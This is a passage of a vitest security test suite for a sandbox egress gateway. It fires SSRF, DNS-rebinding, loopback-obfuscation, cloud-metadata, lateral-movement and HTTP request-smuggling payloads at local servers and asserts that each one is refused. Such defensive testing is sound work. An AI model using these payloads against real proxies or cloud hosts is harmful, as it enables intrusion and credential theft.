import { describe, it, expect, beforeAll, afterAll } from 'vitest'
import { readFileSync, writeFileSync, readdirSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { podman, TEST_HOME } from '../helpers/cli.js'
import {
  attackImage, createSandbox, deleteSandboxes, sh, bash, python, node, curlProxy, rawProxy, statuses, expectLogged, logs,
  gatewayHosts, gatewayLoopbackService, gatewayName, GATEWAY_LOOPBACK_PORT, GATEWAY_LOOPBACK_BODY,
  Upstream, BannerServer, hostAddress, policyFile, writePolicyText, probeInSandbox, sleep,
} from '../helpers/attack.js'

/**
 * Network egress attacks (catalogue 1–29), each made for real from inside rootless podshell
 * sandboxes, through the real bridge and gateway, against servers on THIS host only:
 *   - `Upstream`: an HTTP server on the host's own address (the gateway reaches it through its
 *     slirp4netns NAT like any outside server); it records every request it parses, so a request
 *     that should never have been forwarded shows up there;
 *   - a banner server (a non-HTTP service) on another port;
 *   - a service on the GATEWAY CONTAINER'S loopback (127.0.0.1 and ::1): what an SSRF through the
 *     gateway would reach. A correct gateway refuses before connecting; a broken one returns its body;
 *   - names the gateway resolves come from lines the test adds to the gateway container's
 *     /etc/hosts: the test plays the DNS an attacker controls (rebinding to loopback, metadata,
 *     private and v4-mapped addresses). Names the policy denies are never resolved at all.
 * "No route" attacks aim at the upstream itself or at documentation addresses (TEST-NET,
 * 2001:db8::/32): a sandbox's network namespace has only `lo`, so nothing leaves the machine.
 */

declare module 'vitest' {
  interface TaskMeta {
    observed?: string
    control?: string
  }
}

let up: Upstream
let banner: BannerServer
let image: string
const H = hostAddress()
const LP = GATEWAY_LOOPBACK_PORT

// Sandboxes: `net` (the main policy), `deny` (no policy: the default, deny all), `l7` (read-only REST
// on the upstream's address; read-write REST on the name rest-rw.test, which resolves to it).
let net = ''
let deny = ''
let l7 = ''

const NAMES: [string, string][] = []
const REBIND: Record<string, string> = {
  'rebind-loop.test': '127.0.0.1',
  'rebind-v6loop.test': '::1',
  'rebind-mapped.test': '::ffff:127.0.0.1',
  'rebind-nat64.test': '64:ff9b::7f00:1',
  'rebind-meta.test': '169.254.169.254',
  'rebind-private.test': '10.1.2.3',
  'rebind-linklocal.test': '169.254.7.7',
}

beforeAll(async () => {
  image = await attackImage()
  up = await Upstream.start()
  banner = await BannerServer.start()
  const wildNames = ['api.svc.test', 'svc.test', 'a.b.svc.test', 'evilsvc.test', 'svc.test.evil.test', 'rebind-time.test']
  for (const n of wildNames) NAMES.push([H, n])
  for (const [n, ip] of Object.entries(REBIND)) NAMES.push([ip, n])
  // rebind-mixed resolves to the real upstream AND loopback: every candidate must pass.
  NAMES.push([H, 'rebind-mixed.test'], ['127.0.0.1', 'rebind-mixed.test'])

  const allowed = [H + '/32']
  const main = policyFile({
    upstream_ip: [{ host: H, port: up.port }],
    wildcard: [{ host: '*.svc.test', port: up.port, allowed_ips: allowed }],
    // Names an attacker's DNS points elsewhere. The policy "allows" them; the address rules must not.
    rebinding: [
      ...Object.keys(REBIND).map(host => ({ host, ports: [LP, up.port], allowed_ips: allowed })),
      { host: 'rebind-mixed.test', ports: [LP, up.port], allowed_ips: allowed },
      { host: 'rebind-time.test', ports: [LP, up.port], allowed_ips: allowed },
      { host: 'rebind-private-noips.test', port: up.port },
    ],
    // Loopback and metadata written into the policy: always blocked whatever the policy says.
    loopback: [{ host: '127.0.0.1', port: LP }, { host: 'localhost', port: LP }, { host: '::1', port: LP }],
    metadata: [{ host: '169.254.169.254', port: 80 }, { host: 'metadata.google.internal', port: 80 }],
    host_services: [{ host: 'host.containers.internal', port: up.port }],
  })
  net = await createSandbox('net', { policy: main, image })
  deny = await createSandbox('deny', { image })
  l7 = await createSandbox('l7', {
    image,
    policy: policyFile({
      rest_ro: [{ host: H, port: up.port, protocol: 'rest', access: 'read-only', enforcement: 'enforce' }],
      rest_rw: [{ host: 'rest-rw.test', port: up.port, protocol: 'rest', access: 'read-write', enforcement: 'enforce', allowed_ips: allowed }],
    }),
  })
  await gatewayHosts([...NAMES, ['10.1.2.3', 'rebind-private-noips.test'], [H, 'rest-rw.test']])
  await gatewayLoopbackService()
})

afterAll(async () => {
  await deleteSandboxes([net, deny, l7])
  await up?.close()
  await banner?.close()
})

// ───────────────────────────── raw proxy helpers ─────────────────────────────

function get(target: string, host: string, extra = ''): string {
  return `GET ${target} HTTP/1.1\r\nHost: ${host}\r\n${extra}Connection: close\r\n\r\n`
}
function connect(authority: string): string {
  return `CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`
}
function esc(s: string): string {
  return s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')
}
/** Asserts a raw proxy answer is exactly one refusal and never the loopback service's body. */
function refused(raw: string, status: number | number[]): void {
  const codes = statuses(raw)
  expect(raw).not.toContain(GATEWAY_LOOPBACK_BODY)
  expect(raw).not.toContain('upstream-ok')
  expect(codes.length, raw).toBeGreaterThanOrEqual(1)
  expect(Array.isArray(status) ? status : [status]).toContain(codes[0])
}

// ───────────────────────────── 1–2: around the proxy ─────────────────────────────

describe('#1–2 bypassing the proxy', () => {
  it('#2 control: the allowed upstream answers through the proxy (curl with the sandbox\'s proxy variables)', async ({ task }) => {
    const r = await sh(net, `curl -sS --max-time 10 ${up.url('/t/control-proxy')}`)
    task.meta.observed = r.stdout.trim()
    expect(r.stdout).toBe('upstream-ok')
    expect(up.seen('/t/control-proxy')).toHaveLength(1)
  })

  it('#1 direct TCP with the proxy variables unset (env -u HTTPS_PROXY … curl) → no route (ENETUNREACH), nothing reaches the upstream', async ({ task }) => {
    const r = await sh(net, `env -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY -u http_proxy -u https_proxy -u all_proxy curl -sS --max-time 5 ${up.url('/t/env-u')} 2>&1; echo rc=$?`)
    task.meta.observed = r.stdout.trim()
    expect(r.stdout).toMatch(/Network is unreachable|Couldn't connect|Failed to connect/)
    expect(r.stdout).toMatch(/rc=7/)
    expect(up.seen('/t/env-u')).toHaveLength(0)
  })

  it("#1 curl --noproxy '*' to the allowed upstream → no route", async ({ task }) => {
    const r = await sh(net, `curl -sS --max-time 5 --noproxy '*' ${up.url('/t/noproxy')} 2>&1; echo rc=$?`)
    task.meta.observed = r.stdout.trim()
    expect(r.stdout).toMatch(/rc=7/)
    expect(up.seen('/t/noproxy')).toHaveLength(0)
  })

  it('#1 bash /dev/tcp to the allowed upstream → Network is unreachable', async ({ task }) => {
    const r = await bash(net, `exec 3<>/dev/tcp/${H}/${up.port} && printf 'GET /t/devtcp HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3; echo rc=$?`)
    task.meta.observed = r.stderr.trim() || r.stdout.trim()
    expect(r.stderr + r.stdout).toMatch(/Network is unreachable/)
    expect(up.seen('/t/devtcp')).toHaveLength(0)
  })

  it('#1 python raw socket.connect to the allowed upstream → ENETUNREACH', async ({ task }) => {
    const r = await python(net, `
import socket, errno
try:
    socket.create_connection((${JSON.stringify(H)}, ${up.port}), timeout=5); print('CONNECTED')
except OSError as e:
    print(errno.errorcode.get(e.errno))
`)
    task.meta.observed = r.stdout.trim()
    expect(r.stdout.trim()).toBe('ENETUNREACH')
  })

  it('#1 node net.connect to the allowed upstream → ENETUNREACH', async ({ task }) => {
    const r = await node(net, `require('net').connect(${up.port}, ${JSON.stringify(H)}).on('connect', () => { console.log('CONNECTED'); process.exit(0) }).on('error', e => { console.log(e.code); process.exit(0) })`)
    task.meta.observed = r.stdout.trim()
    expect(r.stdout.trim()).toBe('ENETUNREACH')
  })

  it('#1 direct connect to a TEST-NET address (192.0.2.1:80, the Codex probe) → no route, immediately', async ({ task }) => {
    const t0 = Date.now()
    const r = await bash(net, 'exec 3<>/dev/tcp/192.0.2.1/80; echo rc=$?')
    task.meta.observed = `${(r.stderr + r.stdout).trim()} in ${Date.now() - t0} ms (including podshell exec)`
    expect(r.stderr).toMatch(/Network is unreachable/)
  })

  it('#2 the only interface is lo and there is no default route → ip route is empty', async ({ task }) => {
    // The kernel's list of interfaces (sysfs may be masked under Podman 5: src/podman/sysfs.ts).
    const r = await sh(net, 'ip -o link | cut -d: -f2 | tr -d " "; echo ROUTES; ip route; ip -6 route; echo END')
    task.meta.observed = r.stdout.trim().replace(/\n/g, ' ')
    expect(r.stdout.split('ROUTES')[0]!.trim()).toBe('lo')
    expect(r.stdout).not.toMatch(/default|via/)
  })
})

// ───────────────────────────── 3–8: what the proxy decides ─────────────────────────────

describe('#3–8 through the proxy: addresses, names, ports', () => {
  it('#3 raw IP literal not in the policy (GET http://198.51.100.1/) → 403 before any connection, logged', async ({ task }) => {
    const raw = await rawProxy(net, get('http://198.51.100.1/t/rawip', '198.51.100.1'))
    task.meta.observed = raw.split('\r\n')[0]
    refused(raw, 403)
    expect(raw).toContain('policy_denied')
    await expectLogged(net, /DENIED/, /198\.51\.100\.1/)
  })

  it('#3 CONNECT to a raw IP with no SNI (198.51.100.1:443) → 403, logged', async ({ task }) => {
    const raw = await rawProxy(net, connect('198.51.100.1:443'))
    task.meta.observed = raw.split('\r\n')[0]
    refused(raw, 403)
    await expectLogged(net, /DENIED/, /198\.51\.100\.1:443/)
  })

  const spellings: [string, string][] = [
    ['127.0.0.1', '127.0.0.1'],
    ['127.1', 'short form'],
    ['0x7f.0.0.1', 'hex octet'],
    ['0x7f000001', 'hex integer'],
    ['2130706433', 'decimal integer'],
    ['017700000001', 'octal integer'],
    ['0177.0.0.1', 'octal octet'],
    ['127.0.1', 'three-part form'],
    ['[::ffff:127.0.0.1]', 'v4-mapped IPv6'],
    ['[::ffff:7f00:1]', 'v4-mapped IPv6, hex'],
    ['[::1]', 'IPv6 loopback'],
    ['[0:0:0:0:0:0:0:1]', 'IPv6 loopback, long form'],
  ]
  for (const [spelling, what] of spellings) {
    it(`#4 loopback spelled ${spelling} (${what}) through the proxy, although the policy lists 127.0.0.1 → 403, the gateway's loopback service is never reached`, async ({ task }) => {
      const raw = await rawProxy(net, get(`http://${spelling}:${LP}/t/spell`, `${spelling}:${LP}`))
      task.meta.observed = raw.split('\r\n')[0]
      refused(raw, 403)
      // Either canonicalised to the policy's 127.0.0.1 and stopped by the always-blocked address
      // rule, or (v4-mapped IPv6 forms, which podshell keeps as IPv6) matched by no endpoint.
      expect(raw).toMatch(/always blocked|not allowed by any policy/)
      task.meta.observed += ` (${/always blocked/.test(raw) ? 'address rule: loopback' : 'no endpoint matches'})`
    })
  }

  it('#4 CONNECT to loopback spelled as a decimal integer (2130706433) → 403', async ({ task }) => {
    const raw = await rawProxy(net, connect(`2130706433:${LP}`))
    task.meta.observed = raw.split('\r\n')[0]
    refused(raw, 403)
    await expectLogged(net, /DENIED/, new RegExp(`127\\.0\\.0\\.1:${LP}`))
  })

  it('#4 a host that ends in a number but is no IPv4 address (1e2.1.1.1) → 400, not resolved', async ({ task }) => {
    const raw = await rawProxy(net, connect('1e2.1.1.1:443'))
    task.meta.observed = raw.split('\r\n')[0]
    refused(raw, 400)
  })

  it('#5 a rebinding name in mixed case with a trailing dot (REBIND-Loop.TEST.) → still refused as loopback', async ({ task }) => {
    const raw = await rawProxy(net, get(`http://REBIND-Loop.TEST.:${LP}/t/case`, `REBIND-Loop.TEST.:${LP}`))
    task.meta.observed = raw.split('\r\n')[0]
    refused(raw, 403)
  })

  it('#5 control: the allowed wildcard name in mixed case with a trailing dot (Api.SVC.test.) → allowed, same decision as api.svc.test', async ({ task }) => {
    const raw = await rawProxy(net, get(`http://Api.SVC.test.:${up.port}/t/case-ok`, `Api.SVC.test.:${up.port}`))
    task.meta.observed = raw.split('\r\n')[0]
    expect(statuses(raw)[0]).toBe(200)
    expect(up.seen('/t/case-ok')).toHaveLength(1)
  })

  const wild: [string, string][] = [
    ['svc.test', 'the apex of *.svc.test'],
    ['a.b.svc.test', 'two labels deep for the one-label *.svc.test'],
    ['evilsvc.test', 'a suffix lookalike (evilsvc.test)'],
    ['svc.test.evil.test', 'the allowed name as a prefix of another domain'],
  ]
  for (const [host, what] of wild) {
    it(`#6 wildcard edge: ${what} — the name resolves to the upstream too → 403, nothing forwarded`, async ({ task }) => {
      const path = `/t/wild-${host}`
      const raw = await rawProxy(net, get(`http://${host}:${up.port}${path}`, `${host}:${up.port}`))
      task.meta.observed = raw.split('\r\n')[0]
      refused(raw, 403)
      expect(up.seen(path)).toHaveLength(0)
      await expectLogged(net, /DENIED/, new RegExp(esc(`${host}:${up.port}`)))
    })
  }

  it('#6 control: one label under the wildcard (api.svc.test) → 200 from the upstream', async ({ task }) => {
    const r = await curlProxy(net, `http://api.svc.test:${up.port}/t/wild-ok`)
    task.meta.observed = `${r.status} ${r.body}`
    expect(r.status).toBe(200)
    expect(r.body).toBe('upstream-ok')
  })

  for (const port of [22, 8080]) {
    it(`#7 the allowed host on a port the policy does not list (CONNECT ${H}:${port}) → 403, logged`, async ({ task }) => {
      const raw = await rawProxy(net, connect(`${H}:${port}`))
      task.meta.observed = raw.split('\r\n')[0]
      refused(raw, 403)
      await expectLogged(net, /DENIED/, new RegExp(esc(`${H}:${port}`)))
    })
  }

  it('#8 a non-HTTP service (SSH-style banner) on the allowed host, another port → 403, the service sees no connection', async ({ task }) => {
    const before = banner.connections
    const raw = await rawProxy(net, connect(`${H}:${banner.port}`))
    task.meta.observed = raw.split('\r\n')[0]
    refused(raw, 403)
    expect(raw).not.toContain('SSH-2.0')
    expect(banner.connections).toBe(before)
  })
})

// ───────────────────────────── 9–11: DNS ─────────────────────────────

describe('#9–11 DNS', () => {
  it('#9 getent hosts (libc resolver, /etc/resolv.conf) → fails: no resolver is reachable', async ({ task }) => {
    const r = await sh(net, 'cat /etc/resolv.conf 2>&1 | grep -v "^#"; timeout 20 getent hosts podshell-dns-probe.example.com; echo rc=$?')
    task.meta.observed = r.stdout.trim().replace(/\n/g, ' ')
    expect(r.stdout).toMatch(/rc=2/)
  })

  it('#9 python socket.getaddrinfo → resolution fails', async ({ task }) => {
    const r = await python(net, `
import socket
try:
    print(socket.getaddrinfo('podshell-dns-probe.example.com', 443))
except OSError as e:
    print('FAILED', e)
`)
    task.meta.observed = r.stdout.trim()
    expect(r.stdout).toMatch(/^FAILED/)
  })

  it('#9 a DNS query over UDP straight to 8.8.8.8:53 → ENETUNREACH (nothing leaves)', async ({ task }) => {
    const r = await python(net, `
import socket, errno
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(bytes.fromhex('abcd01000001000000000000076578616d706c6503636f6d0000010001'), ('8.8.8.8', 53)); print('SENT')
except OSError as e:
    print(errno.errorcode.get(e.errno))
`)
    task.meta.observed = r.stdout.trim()
    expect(r.stdout.trim()).toBe('ENETUNREACH')
  })

  it('#9 a DNS query over TCP to a resolver (198.51.100.53:53) → ENETUNREACH', async ({ task }) => {
    const r = await bash(net, 'exec 3<>/dev/tcp/198.51.100.53/53; echo rc=$?')
    task.meta.observed = r.stderr.trim()
    expect(r.stderr).toMatch(/Network is unreachable/)
  })

  it('#11 DNS over HTTPS through the proxy (CONNECT dns.google:443) → 403 without resolving it, logged', async ({ task }) => {
    const raw = await rawProxy(net, connect('dns.google:443'))
    task.meta.observed = raw.split('\r\n')[0]
    refused(raw, 403)
    await expectLogged(net, /DENIED/, /dns\.google:443/)
  })

  it('#11 DNS over TLS directly (TCP 853) and mDNS (224.0.0.251:5353) → no route', async ({ task }) => {
    const r = await python(net, `
import socket, errno
out = []
try:
    socket.create_connection(('198.51.100.1', 853), timeout=3); out.append('DOT-CONNECTED')
except OSError as e:
    out.append(errno.errorcode.get(e.errno))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b'\\0' * 12, ('224.0.0.251', 5353)); out.append('MDNS-SENT')
except OSError as e:
    out.append(errno.errorcode.get(e.errno))
print(' '.join(out))
`)
    task.meta.observed = r.stdout.trim()
    expect(r.stdout.trim()).toBe('ENETUNREACH ENETUNREACH')
  })
})

// ───────────────────────────── 12–17: where an allowed name may lead ─────────────────────────────

describe('#12–17 rebinding, metadata, loopback, LAN', () => {
  // port 0 = the upstream's port (known only once it listens)
  const cases: [string, string, number][] = [
    ['rebind-loop.test', 'loopback 127.0.0.1', LP],
    ['rebind-v6loop.test', 'IPv6 loopback ::1', LP],
    ['rebind-mapped.test', 'v4-mapped loopback ::ffff:127.0.0.1', LP],
    ['rebind-nat64.test', 'NAT64 loopback 64:ff9b::7f00:1', LP],
    ['rebind-mixed.test', 'both the upstream and 127.0.0.1', LP],
    ['rebind-meta.test', 'the cloud metadata address 169.254.169.254', LP],
    ['rebind-linklocal.test', 'a link-local address', LP],
    ['rebind-private.test', 'a private address outside the endpoint\'s allowed_ips', 0],
    ['rebind-private-noips.test', 'a private address, endpoint without allowed_ips', 0],
  ]
  for (const [host, what, p] of cases) {
    it(`#12 DNS rebinding: allowed name ${host} resolves to ${what} → 403 before connecting, logged with the reason`, async ({ task }) => {
      const port = p || up.port
      const raw = await rawProxy(net, get(`http://${host}:${port}/t/rebind`, `${host}:${port}`))
      task.meta.observed = JSON.parse(raw.slice(raw.indexOf('{')) || '{}').reason ?? raw.split('\r\n')[0]
      refused(raw, 403)
      await expectLogged(net, /DENIED/, new RegExp(esc(host)), /always blocked|allowed_ips|private|loopback/)
    })
  }

  it('#12 DNS rebinding over CONNECT (rebind-mapped.test) → 403', async ({ task }) => {
    const raw = await rawProxy(net, connect(`rebind-mapped.test:${LP}`))
    task.meta.observed = raw.split('\r\n')[0]
    refused(raw, 403)
  })

  it('#13 the name is re-pointed at loopback between two requests (time-of-check rebinding) → the first reaches the upstream, the second is refused', async ({ task }) => {
    const gw = await gatewayName()
    const hostsPath = (await podman(['inspect', '--format', '{{.HostsPath}}', gw])).stdout.trim()
    const first = await rawProxy(net, get(`http://rebind-time.test:${up.port}/t/time1`, `rebind-time.test:${up.port}`))
    expect(statuses(first)[0]).toBe(200)
    const text = readFileSync(hostsPath, 'utf8')
    writeFileSync(hostsPath, text.replace(new RegExp(`^${esc(H)}\\s+rebind-time\\.test$`, 'm'), '127.0.0.1\trebind-time.test'))
    try {
      const second = await rawProxy(net, get(`http://rebind-time.test:${LP}/t/time2`, `rebind-time.test:${LP}`))
      task.meta.observed = `first ${statuses(first)[0]}, second ${statuses(second)[0]}`
      refused(second, 403)
    } finally {
      writeFileSync(hostsPath, readFileSync(hostsPath, 'utf8').replace(/^127\.0\.0\.1\s+rebind-time\.test$/m, `${H}\trebind-time.test`))
    }
  })

  it('#25 the client pins the allowed name to loopback (curl --resolve api.svc.test:PORT:127.0.0.1) → the gateway resolves itself: the pin is ignored', async ({ task }) => {
    const r = await curlProxy(net, `http://api.svc.test:${up.port}/t/pinned`, { extra: ['--resolve', `api.svc.test:${up.port}:127.0.0.1`] })
    task.meta.observed = `${r.status} ${r.body}`
    expect(r.body).toBe('upstream-ok')
    expect(up.seen('/t/pinned')).toHaveLength(1)
  })

  const meta: [string, number][] = [['169.254.169.254', 80], ['[fd00:ec2::254]', 80], ['100.100.100.200', 80], ['168.63.129.16', 80]]
  for (const [ip, port] of meta) {
    it(`#15 cloud metadata ${ip} through the proxy (169.254.169.254 is even listed in the policy) → 403, logged`, async ({ task }) => {
      const raw = await rawProxy(net, get(`http://${ip}:${port}/latest/meta-data/`, `${ip}:${port}`))
      task.meta.observed = raw.split('\r\n')[0]
      refused(raw, 403)
      await expectLogged(net, /DENIED/, new RegExp(esc(ip.replace(/[[\]]/g, ''))))
    })
  }

  it('#15 cloud metadata directly (curl --noproxy \'*\' http://169.254.169.254/) → no route', async ({ task }) => {
    const r = await sh(net, "curl -sS --max-time 5 --noproxy '*' http://169.254.169.254/latest/meta-data/ 2>&1; echo rc=$?")
    task.meta.observed = r.stdout.trim()
    expect(r.stdout).toMatch(/rc=7/)
  })

  it('#15 metadata.google.internal (listed in the policy; its name is not even resolvable here) → refused', async ({ task }) => {
    // No resolver answers in the test namespace (slirp4netns refuses, pasta drops the query), and
    // the gateway's c-ares resolver (src/rules/dns.ts) sees no ICMP error: the lookup fails at its
    // 5 s deadline (getaddrinfo under pasta took ~40 s). Wait for the gateway's answer either way.
    const raw = await rawProxy(net, get('http://metadata.google.internal/computeMetadata/v1/', 'metadata.google.internal'), 60)
    task.meta.observed = raw.split('\r\n')[0]
    refused(raw, [403, 502])
  })

  it('#16 the host itself by name (host.containers.internal is in the policy, without allowed_ips) → 403', async ({ task }) => {
    const raw = await rawProxy(net, get(`http://host.containers.internal:${up.port}/t/hostname`, `host.containers.internal:${up.port}`))
    task.meta.observed = raw.split('\r\n')[0]
    refused(raw, 403)
    expect(up.seen('/t/hostname')).toHaveLength(0)
  })

  for (const [ip, port, what] of [['10.0.2.2', 22, "slirp4netns' host gateway, SSH"], ['10.0.2.100', 6379, "the gateway container's own address, Redis"], ['192.168.1.1', 3306, 'a LAN router, MySQL'], ['172.16.0.1', 8080, 'a private network, HTTP']] as const) {
    it(`#17 lateral movement to ${ip}:${port} (${what}) without allowed_ips → 403, logged`, async ({ task }) => {
      const raw = await rawProxy(net, connect(`${ip}:${port}`))
      task.meta.observed = raw.split('\r\n')[0]
      refused(raw, 403)
      await expectLogged(net, /DENIED/, new RegExp(esc(`${ip}:${port}`)))
    })
  }
})

// ───────────────────────────── 18–20: other protocols ─────────────────────────────

describe('#18–20 IPv6, UDP, ICMP', () => {
  it('#18 IPv6 directly (2001:db8::1, and the sandbox has no IPv6 address but ::1) → no route', async ({ task }) => {
    const r = await python(net, `
import socket, errno
try:
    socket.create_connection(('2001:db8::1', 443), timeout=3); print('CONNECTED')
except OSError as e:
    print(errno.errorcode.get(e.errno))
print(open('/proc/net/if_inet6').read().split())
`)
    task.meta.observed = r.stdout.trim().replace(/\n/g, ' ')
    expect(r.stdout).toMatch(/^ENETUNREACH/)
  })

  it('#18 IPv6 through the proxy (CONNECT [2001:db8::1]:443) → 403', async ({ task }) => {
    const raw = await rawProxy(net, connect('[2001:db8::1]:443'))
    task.meta.observed = raw.split('\r\n')[0]
    refused(raw, 403)
  })

  it('#19 UDP/QUIC (HTTP/3 on 198.51.100.1:443/udp) → ENETUNREACH; the gateway has no UDP path', async ({ task }) => {
    const r = await python(net, `
import socket, errno
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b'\\xc0' + b'\\0' * 1199, ('198.51.100.1', 443)); print('SENT')
except OSError as e:
    print(errno.errorcode.get(e.errno))
`)
    task.meta.observed = r.stdout.trim()
    expect(r.stdout.trim()).toBe('ENETUNREACH')
  })

  it('#20 ICMP echo (ping socket, then raw socket) → refused: no NET_RAW, ping_group_range excludes the user', async ({ task }) => {
    const r = await probeInSandbox(net, ['icmp_echo=192.0.2.1'])
    task.meta.observed = r.icmp_echo!.detail
    expect(r.icmp_echo!.blocked).toBe(true)
    expect(r.icmp_echo!.detail).toMatch(/EACCES|EPERM|ENETUNREACH/)
  })
})

// ───────────────────────────── 21–22: relays ─────────────────────────────

describe('#21–22 the proxy as a relay', () => {
  it('#21 CONNECT through the gateway back to the bridge (127.0.0.1:3128) → 403', async ({ task }) => {
    const raw = await rawProxy(net, connect('127.0.0.1:3128'))
    task.meta.observed = raw.split('\r\n')[0]
    refused(raw, 403)
  })

  it('#21 absolute-form request for the bridge itself (GET http://localhost:3128/) → 403', async ({ task }) => {
    const raw = await rawProxy(net, get('http://localhost:3128/', 'localhost:3128'))
    task.meta.observed = raw.split('\r\n')[0]
    refused(raw, 403)
  })

  it("#21 a unix-socket target (another sandbox's proxy.sock or the control socket) → 400, no such thing as a unix target", async ({ task }) => {
    const raw = await rawProxy(net, get(`http://unix:/var/lib/podshell/gateway/sandboxes/${deny}/egress/proxy.sock:/`, 'unix'))
    task.meta.observed = raw.split('\r\n')[0]
    refused(raw, [400, 403])
  })

  it("#21 from the deny-all sandbox, name the other sandbox in headers (Host, X-Podshell-Sandbox, Proxy-Authorization) → still 403: the socket is the identity", async ({ task }) => {
    const raw = await rawProxy(deny, get(up.url('/t/identity'), `${H}:${up.port}`, `X-Podshell-Sandbox: ${net}\r\nProxy-Authorization: Basic ${Buffer.from(`${net}:x`).toString('base64')}\r\nForwarded: for=${net}\r\n`))
    task.meta.observed = raw.split('\r\n')[0]
    refused(raw, 403)
    expect(up.seen('/t/identity')).toHaveLength(0)
  })

  it('#22 a SOCKS5 client (no-auth greeting) against the proxy port → not a SOCKS proxy: 400 and closed', async ({ task }) => {
    const raw = await rawProxy(net, '\x05\x01\x00\x05\x01\x00\x01\xc6\x33\x64\x01\x01\xbb')
    task.meta.observed = raw.split('\r\n')[0] || '(closed without reply)'
    expect(raw.startsWith('\x05')).toBe(false)
    if (raw) expect(statuses(raw)[0]).toBe(400)
  })

  it('#22 an origin-form request (the proxy used as a web server: GET /ok) → 400', async ({ task }) => {
    const raw = await rawProxy(net, get('/t/origin', `${H}:${up.port}`))
    task.meta.observed = raw.split('\r\n')[0]
    refused(raw, 400)
    expect(up.seen('/t/origin')).toHaveLength(0)
  })
})

// ───────────────────────────── 23–25: request smuggling ─────────────────────────────

describe('#23–25 request smuggling and L7', () => {
  const target = () => `http://${H}:${up.port}`
  const host = () => `${H}:${up.port}`

  it('#23 CRLF injected into the CONNECT target (a second header line naming another host) → 400', async ({ task }) => {
    const raw = await rawProxy(net, `CONNECT ${host()}\r\nHost: evil.test:443 HTTP/1.1\r\nHost: ${host()}\r\n\r\n`)
    task.meta.observed = raw.split('\r\n')[0]
    refused(raw, 400)
  })

  it('#23 Transfer-Encoding and Content-Length together, with a smuggled request in the body → 400, the upstream never sees the smuggled request', async ({ task }) => {
    const smuggled = `GET http://evil.test/t/smuggled-tecl HTTP/1.1\r\nHost: evil.test\r\n\r\n`
    const body = `0\r\n\r\n${smuggled}`
    const raw = await rawProxy(net, `POST ${target()}/t/tecl HTTP/1.1\r\nHost: ${host()}\r\nContent-Length: ${body.length}\r\nTransfer-Encoding: chunked\r\n\r\n${body}`)
    task.meta.observed = statuses(raw).join(',')
    refused(raw, 400)
    expect(up.seen('smuggled-tecl')).toHaveLength(0)
    expect(up.seen('/t/tecl')).toHaveLength(0)
  })

  it('#23 two Content-Length headers that disagree → 400', async ({ task }) => {
    const raw = await rawProxy(net, `POST ${target()}/t/dupcl HTTP/1.1\r\nHost: ${host()}\r\nContent-Length: 5\r\nContent-Length: 40\r\n\r\nhello`)
    task.meta.observed = raw.split('\r\n')[0]
    refused(raw, 400)
    expect(up.seen('/t/dupcl')).toHaveLength(0)
  })

  it('#23 an obfuscated Transfer-Encoding (chunked, identity) → 400', async ({ task }) => {
    const raw = await rawProxy(net, `POST ${target()}/t/te-obf HTTP/1.1\r\nHost: ${host()}\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n`)
    task.meta.observed = raw.split('\r\n')[0]
    refused(raw, 400)
    expect(up.seen('/t/te-obf')).toHaveLength(0)
  })

  it('#23 absolute-form URL for the allowed host but Host header naming another (evil.test) → 400', async ({ task }) => {
    const raw = await rawProxy(net, get(`${target()}/t/hostmismatch`, 'evil.test'))
    task.meta.observed = raw.split('\r\n')[0]
    refused(raw, 400)
    expect(up.seen('/t/hostmismatch')).toHaveLength(0)
  })

  it('#23 absolute-form URL for a denied host but Host header naming the allowed one → 400 (never decided on the Host header)', async ({ task }) => {
    const raw = await rawProxy(net, get('http://198.51.100.1/t/hostmismatch2', host()))
    task.meta.observed = raw.split('\r\n')[0]
    refused(raw, [400, 403])
  })

  it('#23 userinfo in the target (http://allowed@evil.test/) → 400', async ({ task }) => {
    const raw = await rawProxy(net, get(`http://${host()}@evil.test/t/userinfo`, 'evil.test'))
    task.meta.observed = raw.split('\r\n')[0]
    refused(raw, 400)
  })

  it('#23 bare LF line endings and obsolete line folding → 400', async ({ task }) => {
    const raw = await rawProxy(net, `GET ${target()}/t/lf HTTP/1.1\nHost: ${host()}\n X-Folded: yes\n\n`)
    task.meta.observed = raw.split('\r\n')[0]
    refused(raw, 400)
    expect(up.seen('/t/lf')).toHaveLength(0)
  })

  it('#23 keep-alive pipelining: an allowed request followed on the same connection by one for a denied host → the second is decided on its own: 403', async ({ task }) => {
    const raw = await rawProxy(net, `GET ${target()}/t/pipe1 HTTP/1.1\r\nHost: ${host()}\r\n\r\nGET http://198.51.100.1/t/pipe2 HTTP/1.1\r\nHost: 198.51.100.1\r\nConnection: close\r\n\r\n`, 3)
    const codes = statuses(raw)
    task.meta.observed = codes.join(',')
    expect(codes).toEqual([200, 403])
    expect(up.seen('/t/pipe1')).toHaveLength(1)
    expect(up.seen('/t/pipe2')).toHaveLength(0)
  })

  it('#23 a GET whose body holds a second request → forwarded only as a body, never parsed as a request', async ({ task }) => {
    const inner = `GET http://198.51.100.1/t/inner HTTP/1.1\r\nHost: 198.51.100.1\r\n\r\n`
    const raw = await rawProxy(net, `GET ${target()}/echo HTTP/1.1\r\nHost: ${host()}\r\nContent-Length: ${inner.length}\r\nConnection: close\r\n\r\n${inner}`)
    task.meta.observed = statuses(raw).join(',')
    expect(statuses(raw)).toEqual([200])
    expect(up.seen('/t/inner')).toHaveLength(0)
  })

  it('#24 L7 read-only policy: POST → 403 (control: GET → 200), logged', async ({ task }) => {
    const ok = await curlProxy(l7, `${target()}/t/l7-get`)
    expect(ok.status).toBe(200)
    const r = await curlProxy(l7, `${target()}/t/l7-post`, { method: 'POST', extra: ['--data', 'x=1'] })
    task.meta.observed = `GET ${ok.status}, POST ${r.status}`
    expect(r.status).toBe(403)
    expect(up.seen('/t/l7-post')).toHaveLength(0)
    await expectLogged(l7, /DENIED/, /POST/, /\/t\/l7-post/)
  })

  it('#24 L7 read-only policy: CONNECT to the same host:port, then a POST inside the tunnel → the tunnel is inspected (not blind) and the POST is 403, never reaching the upstream', async ({ task }) => {
    // Since TLS inspection, a CONNECT to an endpoint with L7 rules is accepted and terminated: every
